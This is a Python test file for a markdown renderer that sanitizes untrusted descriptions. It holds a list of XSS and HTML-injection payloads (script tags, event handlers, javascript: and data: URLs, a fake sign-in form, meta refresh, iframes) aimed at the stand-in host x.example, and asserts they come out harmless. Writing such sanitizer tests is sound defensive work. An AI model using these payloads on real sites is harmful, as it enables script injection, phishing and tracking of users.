"""Can a stranger's description do anything but be read?"""

import re

import pytest

from headgate.catalog.reference.markdown import html, plain

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://x.example/pixel.png)",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//x.example/)",
    "[x](/console/delete-everything)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='https://x.example' onclick='alert(1)'>x</a>",
    "<a href='https://x.example' target='_blank' rel='opener'>x</a>",
    "<div style='position:fixed;inset:0;background:url(https://x.example)'>x</div>",
    "<style>@import 'https://x.example/x.css';</style>",
    "<link rel=stylesheet href=https://x.example/x.css>",
    "<iframe src=https://x.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://x.example></object><embed src=https://x.example>",
    "<form action=https://x.example><input name=password><button>Sign in</button></form>",
    "<base href=https://x.example/>",
    "<meta http-equiv=refresh content='0;url=https://x.example'>",
    "<video src=https://x.example/a autoplay></video>",
    "<div id=csrf name=csrf class=admin hx-get=/console/delete>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '[x](https://x.example "onmouseover=alert(1)")',
    '[x](https://x.example/" onmouseover="alert(1))',
    '<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>',
]
_ELEMENT = re.compile(r"<([a-zA-Z][^\s/>]*)((?:[^>\"]|\"[^\"]*\")*)>")
_ATTRIBUTE = re.compile(r"([^\s=\"]+)=\"([^\"]*)\"")
_HARMLESS = {"href", "title", "rel", "start"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_description_runs_loads_or_hides_anything(attack: str) -> None:
    made = html(attack)
    for element, attributes in _ELEMENT.findall(made):
        assert element in {"a", "p", "div", "code", "pre", "details", "summary", "table"}, made
        for name, value in _ATTRIBUTE.findall(attributes):
            assert name in _HARMLESS, made
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:")), made
        if element == "a" and "href" in attributes:
            assert 'rel="nofollow noopener"' in attributes, made


def test_markdown_is_shown_as_it_was_meant() -> None:
    made = html(
        "# Title\n\nSome *words*, `code`, [a link](https://example.com/a?b=1&c=2).\n\n- one"
    )
    assert "<h3>Title</h3>" in made
    assert "<em>words</em>" in made
    assert "<code>code</code>" in made
    assert '<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener">' in made
    assert "<li>one</li>" in made


def test_tables_and_harmless_html_stay() -> None:
    made = html("| a | b |\n|---|---|\n| 1 | 2 |\n\nx<br>y <b>z</b>")
    assert "<td>1</td>" in made
    assert "<br>" in made
    assert "<b>z</b>" in made


def test_a_picture_becomes_a_link_so_that_no_other_host_is_asked() -> None:
    made = html("![A map](https://example.com/map.png)")
    assert "<img" not in made
    assert '<a href="https://example.com/map.png" rel="nofollow noopener">A map</a>' in made


def test_a_text_without_markup_loses_nothing() -> None:
    assert plain("Cats & dogs <3, *always*", 100) == "Cats & dogs <3, always"
    assert plain("word " * 50, 20) == "word word word word…"


def test_a_text_that_nests_without_end_is_answered() -> None:
    assert html("> " * 20_000)
    assert html("[" * 20_000)
    assert html("<div>" * 5_000)
